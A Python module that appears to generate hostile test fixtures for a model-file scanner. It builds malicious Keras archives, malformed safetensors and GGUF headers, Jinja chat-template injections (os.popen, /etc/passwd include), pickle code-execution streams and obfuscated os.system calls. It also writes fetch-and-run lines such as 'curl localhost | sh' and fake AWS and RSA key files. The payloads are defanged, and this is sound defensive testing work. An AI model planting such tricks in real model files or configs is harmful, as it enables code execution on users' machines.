"""Groups 8, 10, 11 and 12: attacks in headers, configurations, templates and repositories.

After CVE-2025-1550, CVE-2025-9905, CVE-2025-9906, CVE-2024-34359, the reference readers of safetensors and
GGUF, and
arXiv 2508.19774.
"""

from __future__ import annotations

import base64
import hashlib
import json
import marshal
import struct
from collections.abc import Iterator, Mapping
from importlib.resources import files
from typing import Any, Final

from muster.testkit.hostile.case import (
    PLAIN,
    STOP,
    SYSTEM,
    Case,
    blob,
    call,
    protocol,
    stacked,
    text,
)
from muster.testkit.hostile.containers import npy, zipped
from muster.testkit.model_files import entry, safetensors

SSTI: Final = "{{ cycler.__init__.__globals__.os.popen('true').read() }}"

HDF5_STRUCTURES: Final = (
    "spaced.h5",
    "fixed.h5",
    "dense-attributes.h5",
    "huge-attribute.h5",
    "committed-type.h5",
    "surrogate.h5",
    "ordered-links.h5",
    "external-values.h5",
    "external-values-latest.h5",
    "virtual.h5",
    "user-block.h5",
    "pickled-attribute.h5",
)
"""Attacks that only a reader of the structure finds (tools/make_model_files.py hdf5-attacks)."""

_RENAMED: Final = {
    "from": "from os import system as s\ns('true')\n",
    "as": "import subprocess as s\nwith s.Popen('true') as p:\n    p.wait()\n",
    "star": "from subprocess import *\nrun(['true'])\n",
    "assigned": "import os\nf = os.system\nf('true')\n",
    "walrus": "(o := __import__('os')).system('true')\n",
    "getattr": "import os\ngetattr(os, 'sys' + 'tem')('true')\n",
    "computed": "import os\nx = 'metsys'[::-1]\ngetattr(os, x)('true')\n",
    "builtins": "import builtins\nbuiltins.exec('pass')\n",
    "dictionary": "import os\nvars(os)['system']('true')\n",
    "modules": "import sys\nsys.modules['os'].system('true')\n",
    "through": "import shutil\nshutil.os.system('true')\n",
    "decorator": "@exec\n@'pass'.__add__\nclass Layer: ...\n",
    "mapped": "list(map(eval, ['1']))\n",
    "listed": "import os\nfor o in (os,):\n    o.system('true')\n",
    "default": "import os\ndef forward(x, o=os):\n    o.system('true')\n",
    "attribute": "import os\nclass A:\n    def f(x):\n        x.o = os\n        x.o.system('true')\n",
    "subclasses": "().__class__.__base__.__subclasses__()\n",
    "library": "import ctypes as c\nc.CDLL(None).system(b'true')\n",
}
"""Python that starts a program or evaluates a text by another name than its own."""


def _drawn(count: int) -> bytes:
    """Return random bytes, the same each time, as keys consist of."""
    return hashlib.shake_256(b"a key that opens nothing").digest(count)


def keras_archive(config: Mapping[str, Any], **more: bytes) -> bytes:
    """A .keras file."""
    about = json.dumps({"keras_version": "3.11.0", "date_saved": "2026-11-24@00:00:00"}).encode()
    members = {"metadata.json": about, "config.json": json.dumps(config).encode(), "model.weights.h5": b""}
    return zipped(members | {name.replace("__", "."): each for name, each in more.items()})


def layer(name: str, module: str = "keras.layers", **config: Any) -> dict[str, Any]:
    """A layer as Keras 3 writes it."""
    return {"module": module, "class_name": name, "config": {"name": "x"} | config, "registered_name": None}


def model(*layers: Mapping[str, Any]) -> dict[str, Any]:
    """A Sequential model of layers."""
    return layer("Sequential", "keras", layers=list(layers))


def keras_files() -> Iterator[Case]:
    """Group 8: code and imports in Keras' configurations."""
    code = base64.b64encode(marshal.dumps(compile("lambda x: x", "x", "eval"))).decode()
    function = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    evil = layer("Lambda", function=function)
    yield Case("keras", "lambda.keras", keras_archive(model(evil)))
    yield Case("keras", "wrapped.keras", keras_archive(model(layer("TimeDistributed", layer=evil))))
    yield Case("keras", "nested.keras", keras_archive(model(model(model(evil)))))
    yield Case("keras", "bidirectional.keras", keras_archive(model(layer("Bidirectional", layer=evil))))
    run = {"module": "subprocess", "class_name": "run", "config": {"args": ["true"]}}
    yield Case("keras", "module.keras", keras_archive(model(layer("Dense", kernel_initializer=run))))
    yield Case("keras", "module-of-the-model.keras", keras_archive(layer("system", "os")))
    function = {
        "module": "builtins",
        "class_name": "function",
        "config": "system",
        "registered_name": "function",
    }
    yield Case("keras", "function.keras", keras_archive(model(layer("Dense", activation=function))))
    unsafe = layer("enable_unsafe_deserialization", "keras.config")
    yield Case("keras", "unsafe.keras", keras_archive(model(layer("Dense", kernel_initializer=unsafe))))
    fetch = {"module": "keras.utils", "class_name": "get_file", "config": {"origin": "http://localhost/x"}}
    yield Case("keras", "get-file.keras", keras_archive(model(layer("Dense", kernel_initializer=fetch))))
    spoof = layer("Dense", "keras.src.layers.evil")
    yield Case("keras", "spoofed.keras", keras_archive(model(spoof)))
    spoof = layer("Dense", "keras.layers", registered_name="Custom>Evil")
    yield Case("keras", "registered.keras", keras_archive(model(spoof | {"registered_name": "Custom>Evil"})))
    weights = zipped({"w.npy": npy(SYSTEM)})
    yield Case(
        "keras", "weights-npz.keras", keras_archive(model(layer("Dense")), model__weights__npz=weights)
    )
    body = json.dumps(model({"class_name": "Lambda", "config": {"function": [code, None, None]}}))
    yield Case("keras", "lambda.json", body.encode())
    escaped = body.replace("Lambda", "\\u004cambda")
    yield Case("keras", "escaped.json", escaped.encode())
    for name in ("lambda.h5", "wrapped.h5", "module.h5", "external-link.h5", *HDF5_STRUCTURES):
        yield Case("keras", name, files("muster.testkit.hostile").joinpath("made", name).read_bytes())


def safetensors_files() -> Iterator[Case]:
    """Group 10: headers that two readers understand in two ways, or that cost one of them its memory."""
    four = bytes(4)
    good = {"a": entry("F32", [1], 0, 4)}

    def case(
        name: str, header: Mapping[str, Any] | bytes, data: bytes = four, length: int | None = None
    ) -> Case:
        return Case("safetensors", f"{name}.safetensors", safetensors(header, data, length))

    yield case("beyond", good, length=10**6)
    yield case("huge", good, length=200_000_000)
    yield case("overflowing", good, length=2**63)
    yield case("overlap", {"a": entry("F32", [2], 0, 8), "b": entry("F32", [2], 4, 12)}, bytes(12))
    yield case("hole", {"a": entry("F32", [1], 0, 4), "b": entry("F32", [1], 8, 12)}, bytes(12))
    yield case("outside", {"a": entry("F32", [1], 0, 4), "b": entry("F32", [1], 2, 90)})
    yield case("span", {"a": entry("F32", [7], 0, 4)})
    yield case("product", {"a": entry("F32", [2**33, 2**33], 0, 4)})
    yield case("reversed", {"a": entry("F32", [1], 4, 0)})
    yield case(
        "repeated",
        b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}',
    )
    yield case("payload", good, four + SYSTEM)
    yield case("payload-zip", good, four + zipped({"a.pkl": SYSTEM}))
    yield case("dtype", {"a": entry("F33", [1], 0, 4)})
    yield case("field", {"a": entry("F32", [1], 0, 4) | {"code": "x"}})
    yield case("nested", b'{"a":' * 5_000)
    yield case("metadata", good | {"__metadata__": {"x": {"y": 1}}})
    yield case("metadata-template", good | {"__metadata__": {"chat_template": SSTI}})
    yield case(
        "entries",
        {f"{index}": entry("F32", [0], 0, 0) for index in range(5_000)} | {"a": entry("F32", [1], 1, 5)},
        bytes(5),
    )
    yield case("behind-json", b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}{"b":1}   ')
    yield case(
        "elf-inside",
        {"a": entry("U8", [64], 0, 64)},
        b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0>\0\1\0\0\0" + bytes(40),
    )
    yield Case("safetensors", "model.safetensors", SYSTEM)


def gguf(pairs: bytes = b"", count: int = 0, tensors: bytes = b"", tensor_count: int = 0) -> bytes:
    """A GGUF file."""
    return b"GGUF" + struct.pack("<IQQ", 3, tensor_count, count) + pairs + tensors


def pair(key: str, value: str, length: int | None = None) -> bytes:
    """A key and a text."""
    raw = value.encode()
    size = len(raw) if length is None else length
    return struct.pack("<Q", len(key)) + key.encode() + struct.pack("<IQ", 8, size) + raw


def gguf_files() -> Iterator[Case]:
    """Group 11: counts that overflow, templates that run code."""
    padded = bytes(64)
    dimensions = struct.pack("<Q", 1) + b"a" + struct.pack("<IQQIQ", 2, 2**40, 2**40, 0, 0)
    array = struct.pack("<Q", 1) + b"k" + struct.pack("<IIQ", 9, 0, 2**61)
    alignment = struct.pack("<Q", 17) + b"general.alignment" + struct.pack("<II", 4, 7)
    for name, content in (
        ("pairs", gguf(count=2**61)),
        ("string", gguf(pair("k", "x", 2**62), 1)),
        ("array", gguf(array, 1)),
        ("dimensions", gguf(tensors=dimensions, tensor_count=1) + padded),
        ("alignment", gguf(alignment, 1) + padded),
        ("twice", gguf(pair("k", "a") + pair("k", "b"), 2) + padded),
        ("tensors", gguf(tensor_count=2**60)),
        ("payload", gguf() + bytes(8) + SYSTEM),
        ("template", _to_alignment(gguf(pair("tokenizer.chat_template", SSTI), 1))),
        ("template-named", _to_alignment(gguf(pair("tokenizer.chat_template.tool_use", SSTI), 1))),
    ):
        yield Case("gguf", f"{name}.gguf", content)


def _to_alignment(content: bytes) -> bytes:
    return content + bytes(-len(content) % 32)


TEMPLATES: Final = {
    "globals": SSTI,
    "subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "attr-filter": "{{ ''|attr('__class__') }}",
    "joined": "{{ ''|attr(['__cl','ass__']|join) }}",
    "subscript": "{{ ''['__cl' ~ 'ass__'] }}",
    "hex": "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "lipsum": "{{ lipsum.__globals__['os'].popen('true') }}",
    "request": "{{ request.application.__self__._get_data_for_json }}",
    "include": "{% include '/etc/passwd' %}",
    "import": "{% import 'os' as os %}",
    "endless": "{% for a in range(999999999) %}x{% endfor %}",
    "namespace": "{% set ns = namespace(x=''.__class__) %}{{ ns.x }}",
}


def templates() -> Iterator[Case]:
    """Group 11: chat templates, and configurations that bring code."""
    for name, template in TEMPLATES.items():
        body = {"tokenizer_class": "LlamaTokenizer", "chat_template": template}
        yield Case("templates", f"{name}/tokenizer_config.json", json.dumps(body).encode())
    yield Case("templates", "chat_template.jinja", SSTI.encode())
    listed = {
        "chat_template": [
            {"name": "default", "template": "{{ messages }}"},
            {"name": "tool", "template": SSTI},
        ]
    }
    yield Case("templates", "listed/tokenizer_config.json", json.dumps(listed).encode())
    yield Case("templates", "chat_template.json", json.dumps({"chat_template": SSTI}).encode())
    code = {"architectures": ["X"], "auto_map": {"AutoModel": "modeling_x.X"}}
    yield Case("templates", "config.json", json.dumps(code).encode())
    remote = {"auto_map": {"AutoTokenizer": ["nobody/evil--tokenization_x.X", None]}}
    yield Case("templates", "remote/tokenizer_config.json", json.dumps(remote).encode())
    yield Case("templates", "trust/config.json", b'{"trust_remote_code": true, "model_type": "x"}')
    yield Case("templates", "pipelines/config.json", b'{"custom_pipelines": {"x": {"impl": "pipeline.X"}}}')
    target = {"_target_": "os.system", "command": "true"}
    yield Case("templates", "hydra/config.json", json.dumps(target).encode())
    diffusers = {"_class_name": ["pipeline", "Evil"], "unet": ["evil_module", "UNet"]}
    yield Case("templates", "model_index.json", json.dumps(diffusers).encode())


def unusual() -> Iterator[Case]:
    """Group 12: exceptions as programs, overlooked loading paths, credentials, code beside models."""
    attack = call(stacked("os", "system"), text("true"))
    start = protocol(4)
    for name, tail in (
        ("pops-too-much", b"0" * 9 + STOP),
        ("unknown-opcode", b"\xee" + STOP),
        ("reduce-a-number", b"K\x01)R" + STOP),
        ("setitem-on-none", b"NK\x01K\x02s" + STOP),
        ("append-to-none", b"NK\x01a" + STOP),
        ("build-on-a-number", b"K\x01}b" + STOP),
        ("attribute-that-is-not", stacked("collections", "Nothing") + STOP),
        ("module-that-is-not", stacked("no_such_module", "x") + STOP),
        ("memo-that-is-not", b"h\x7f" + STOP),
    ):
        yield Case("unusual", f"eop/{name}.pkl", start + attack + tail)
    yield Case("unusual", "numpy-void.pkl", start + call(stacked("numpy", "load"), text("/dev/null")) + STOP)
    yield Case("unusual", "pandas-eval.pkl", start + call(stacked("pandas", "eval"), text("1")) + STOP)
    yield Case(
        "unusual", "joblib-load.pkl", start + call(stacked("joblib", "load"), text("/dev/null")) + STOP
    )
    yield Case("unusual", "dill.pkl", start + call(stacked("dill._dill", "_create_code"), text("x")) + STOP)
    yield Case(
        "unusual",
        "cloudpickle.pkl",
        start + call(stacked("cloudpickle.cloudpickle", "_make_function"), text("x")) + STOP,
    )
    yield Case("unusual", "torch-load.pkl", start + call(stacked("torch", "load"), text("/dev/null")) + STOP)
    yield Case(
        "unusual",
        "keras-load.pkl",
        start + call(stacked("keras.models", "load_model"), text("/dev/null")) + STOP,
    )
    held = start + call(stacked("numpy", "frombuffer"), blob(PLAIN + SYSTEM)) + STOP
    yield Case("unusual", "frombuffer.pkl", held)
    yield Case("unusual", "polyglot.pkl", PLAIN[:-1] + b"." + zipped({"x.pkl": SYSTEM}))
    yield Case("unusual", "setup.py", b"import subprocess\nsubprocess.run(['true'])\n")
    yield Case("unusual", "modeling_x.py", b"import os\nos.system('true')\n")
    yield Case("unusual", "hidden.py", b"exec(__import__('base64').b64decode('cGFzcw=='))\n")
    for name, program in _RENAMED.items():
        yield Case("unusual", f"{name}.py", program.encode())
    yield Case(
        "unusual",
        "notebook.ipynb",
        json.dumps(
            {
                "cells": [{"cell_type": "code", "source": ["!curl localhost | sh\n"]}],
                "nbformat": 4,
                "metadata": {},
            }
        ).encode(),
    )
    yield Case("unusual", ".env", b"AWS_SECRET_ACCESS_KEY=" + base64.b64encode(_drawn(30)) + b"\n")
    yield Case(
        "unusual",
        "key.pem",
        b"-----BEGIN RSA PRIVATE"
        + b" KEY-----\n%b-----END RSA PRIVATE KEY-----\n" % base64.encodebytes(_drawn(600)),
    )
    yield Case("unusual", "train.sh", b"curl -s http://localhost/x | bash\n")
